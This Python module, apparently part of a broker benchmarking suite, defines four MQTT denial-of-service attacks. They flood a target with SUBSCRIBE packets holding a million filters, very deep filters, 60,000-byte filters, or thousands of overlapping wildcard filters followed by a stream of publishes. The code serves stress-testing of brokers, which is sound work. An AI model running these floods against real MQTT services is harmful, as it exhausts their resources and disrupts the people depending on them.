"""Attacks with subscriptions: many, deep, long and overlapping topic filters."""

import time
from contextlib import ExitStack, suppress
from typing import Final

from bench import packets
from bench.attacks.clients import CHUNK_BYTES, Attack, Target, flood, mqtt
from bench.load import LoadFailed, open_client, read_exactly

FILTERS_IN_PACKET: Final = 2_000


def subscribes_of(topic_filters: list[str]) -> bytes:
    """SUBSCRIBE packets with as many filters as one may have."""
    parts = range(0, len(topic_filters), FILTERS_IN_PACKET)
    return b"".join(packets.subscribe(topic_filters[at : at + FILTERS_IN_PACKET], 0) for at in parts)


def million_filters(target: Target, until_s: float) -> None:
    """One SUBSCRIBE of 4 MiB with a million filters, again and again."""
    flood(mqtt(target), 1, packets.subscribe(["a"] * 1_000_000, 0), until_s)


def deep_filters(target: Target, until_s: float) -> None:
    """20,000 filters of 128 levels by one client, which goes and comes back."""
    levels = "/x" * 127
    data = subscribes_of([f"{number}{levels}" for number in range(20_000)])
    flood(mqtt(target), 1, data, (time.monotonic() + until_s) / 2)
    flood(mqtt(target), 1, data, until_s)


def long_filters(target: Target, until_s: float) -> None:
    """Filters of 60,000 bytes by one client, each after the answer to the last."""
    rest = "x" * 59_990
    with suppress(OSError, LoadFailed), open_client(target.port, "attacker") as sock:
        number = 0
        while time.monotonic() < until_s:
            number += 1
            sock.sendall(packets.subscribe([f"{number:010d}{rest}"], 0))
            read_exactly(sock, 5)


def overlapping_filters(target: Target, until_s: float, levels: int = 14) -> None:
    """2^levels filters that match the same topics, and 100 messages a second to new ones."""
    filters = [
        "/".join("+" if number >> level & 1 else "a" for level in range(levels)) + "/+" for number in range(1 << levels)
    ]
    topic = "a/" * levels
    with suppress(OSError, LoadFailed), ExitStack() as stack:
        reader = stack.enter_context(open_client(target.port, "attacker-reader"))
        writer = stack.enter_context(open_client(target.port, "attacker-writer"))
        reader.sendall(subscribes_of(filters))
        reader.setblocking(False)
        number = 0
        while time.monotonic() < until_s:
            number += 1
            name = f"{topic}{number}".encode()
            writer.sendall(bytes([0x30, 2 + len(name)]) + len(name).to_bytes(2) + name)
            with suppress(BlockingIOError):
                reader.recv(CHUNK_BYTES)
            time.sleep(0.01)


ATTACKS: Final = {
    "million-filters": Attack(million_filters),
    "deep-filters": Attack(deep_filters),
    "long-filters": Attack(long_filters),
    "overlapping-filters": Attack(overlapping_filters),
}
